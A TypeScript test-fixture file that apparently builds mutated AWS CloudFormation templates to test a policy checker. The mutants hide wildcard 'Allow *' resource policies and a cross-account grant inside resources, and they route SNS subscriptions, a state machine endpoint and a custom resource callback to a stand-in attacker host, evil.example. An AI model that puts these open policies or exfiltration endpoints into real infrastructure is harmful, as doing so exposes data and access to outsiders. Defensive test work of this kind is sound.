import type { Value } from '../fences/templates/assembly';
import { mutantsOf } from './mutant';
import type { Mutant } from './mutant';
import { change } from './planting';
import * as at from './spots';

/** Policies and subscriptions that stand inside a resource, where nobody looks for one. */

const ANYBODY: Value = { Statement: [{ Sid: 'Open', Effect: 'Allow', Principal: '*', Action: '*', Resource: '*' }] };
const TOPIC = { type: 'AWS::SNS::Topic', stack: at.WATCH };

export const POLICIES_INSIDE: readonly Mutant[] = mutantsOf('resource-policy-names-its-callers', {
  'policy-of-a-stream': [
    'the stream of a table admits anybody',
    change(at.TABLE, { StreamSpecification: { StreamViewType: 'NEW_IMAGE', ResourcePolicy: { PolicyDocument: ANYBODY } } }),
  ],
  'policy-inside-a-log': [
    'a log group admits anybody by its own policy',
    change(at.DATABASE_LOG, { ResourcePolicyDocument: ANYBODY }),
  ],
  'policy-inside-a-topic': ['a topic archives under a policy for anybody', change(TOPIC, { ArchivePolicy: ANYBODY })],
  'policy-as-text-inside-a-secret': [
    'a secret has a policy as text',
    change(at.SECRET, { ResourcePolicy: JSON.stringify(ANYBODY) }),
  ],
  'policy-of-a-stranger-deep-down': [
    'a bucket has a policy for a stranger where nobody looks',
    change(at.FILES, {
      'Somewhere/Deep': [{ Statement: { Effect: 'Allow', Principal: { AWS: at.role('x', at.STRANGER) }, Action: 's3:*' } }],
    }),
  ],
});

export const SUBSCRIBED_INSIDE: readonly Mutant[] = mutantsOf('telemetry-goes-where-declared', {
  'subscribed-inside-a-topic': [
    'a topic tells somebody whom it subscribes itself',
    change(TOPIC, { Subscription: [{ Protocol: 'https', Endpoint: 'https://evil.example/alarms' }] }),
  ],
  'machine-calls-somebody': [
    'a machine calls somebody outside',
    change(at.EXPORT_MACHINE, {
      DefinitionString: JSON.stringify({ States: { A: { Parameters: { ApiEndpoint: 'https://evil.example/take' } } } }),
    }),
  ],
  'custom-resource-calls-somebody': [
    'a custom resource is told to call somebody outside',
    change({ type: 'Custom::EbsEncryption', stack: at.WATCH }, { CallbackUrl: 'https://evil.example/done' }),
  ],
  'subscribed-inside-unreadably': ['a topic tells whom nobody can read', change(TOPIC, { Subscription: [{ Ref: 'Somebody' }] })],
});
